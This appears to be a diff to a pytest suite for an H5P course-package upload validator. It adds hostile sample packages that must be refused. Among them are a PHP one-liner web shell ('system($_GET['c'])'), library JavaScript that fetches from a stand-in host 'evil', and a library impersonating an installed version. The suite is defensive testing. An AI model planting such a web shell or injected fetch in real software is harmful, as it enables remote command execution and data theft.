@@ -10,10 +10,11 @@ import pytest
 from django.utils import translation
 
 from courses.h5p.archive import Limits
+from courses.h5p.demo import LIBRARIES
 from courses.h5p.errors import PackageRefused
 from courses.h5p.services import h5p_content_create
 from courses.h5p.validation import validate_package
-from courses.models import H5PContent
+from courses.models import H5PContent, H5PLibrary
 from courses.tests.h5p_packages import (
     PNG,
     build,
@@ -38,6 +39,25 @@ def media_root(settings, tmp_path):
 @pytest.fixture(autouse=True)
 def quiz_library(db, media_root):
     return install_quiz_library()
+
+
+def _installed_library_json() -> bytes:
+    return (LIBRARIES / "H5P.DigiskillsQuiz-1.1" / "library.json").read_bytes()
+
+
+def _new_library_json(machine_name: str, **extra) -> bytes:
+    return json.dumps(
+        {
+            "title": machine_name,
+            "machineName": machine_name,
+            "majorVersion": 1,
+            "minorVersion": 0,
+            "patchVersion": 0,
+            "runnable": 1,
+            "preloadedJs": [{"path": "evil.js"}],
+            **extra,
+        }
+    ).encode()
 
 
 def _corrupt() -> bytes:
@@ -110,12 +130,54 @@ CORPUS = {
         build(entry("content/images/cat.png", b"<script>alert(1)</script>")),
         "content_mismatch",
     ),
-    "library folder in the upload": (
+    "library folder without a valid library.json": (
         build(
             entry("H5P.DigiskillsQuiz-1.1/library.json", b"{}"),
             entry("H5P.DigiskillsQuiz-1.1/quiz.js", b"fetch('//evil')"),
         ),
-        "library_in_upload",
+        "library_json_invalid",
+    ),
+    "other code under the name of an installed version": (
+        build(
+            entry("H5P.DigiskillsQuiz-1.1/library.json", _installed_library_json()),
+            entry("H5P.DigiskillsQuiz-1.1/quiz.js", b"fetch('//evil')"),
+            entry("H5P.DigiskillsQuiz-1.1/quiz.css", b""),
+        ),
+        "library_differs",
+    ),
+    "library code a browser must not run": (
+        build(
+            entry("H5P.Evil-1.0/library.json", _new_library_json("H5P.Evil")),
+            entry("H5P.Evil-1.0/evil.php", b"<?php system($_GET['c']);"),
+        ),
+        "library_file_type",
+    ),
+    "library listing a script it does not carry": (
+        build(entry("H5P.Evil-1.0/library.json", _new_library_json("H5P.Evil"))),
+        "library_file_missing",
+    ),
+    "library needing a library nobody has": (
+        build(
+            entry(
+                "H5P.Evil-1.0/library.json",
+                _new_library_json(
+                    "H5P.Evil",
+                    preloadedDependencies=[
+                        {"machineName": "H5P.Nowhere", "majorVersion": 1, "minorVersion": 0}
+                    ],
+                ),
+            ),
+            entry("H5P.Evil-1.0/evil.js", b""),
+            h5p_json=json.dumps(
+                metadata(
+                    preloadedDependencies=[
+                        {"machineName": "H5P.DigiskillsQuiz", "majorVersion": 1, "minorVersion": 1},
+                        {"machineName": "H5P.Evil", "majorVersion": 1, "minorVersion": 0},
+                    ]
+                )
+            ).encode(),
+        ),
+        "library_dependency_missing",
     ),
     "file outside content": (build(entry("index.html", b"<html>")), "unexpected_file"),
     "unknown library": (
@@ -247,6 +309,7 @@ CORPUS = {
 def test_hostile_package_is_refused_with_its_reason_and_nothing_is_written(case, media_root):
     package, reason = CORPUS[case]
     before = stored_files(media_root)
+    libraries = list(H5PLibrary.objects.values_list("pk", flat=True))
 
     with pytest.raises(PackageRefused) as refused:
         h5p_content_create(upload=io.BytesIO(package), language="en", uploaded_by=None)
@@ -255,6 +318,7 @@ def test_hostile_package_is_refused_with_its_reason_and_nothing_is_written(case,
     assert refused.value.message  # renders in the active language without a KeyError
     assert stored_files(media_root) == before
     assert not H5PContent.objects.exists()
+    assert list(H5PLibrary.objects.values_list("pk", flat=True)) == libraries
 
 
 @pytest.mark.parametrize(
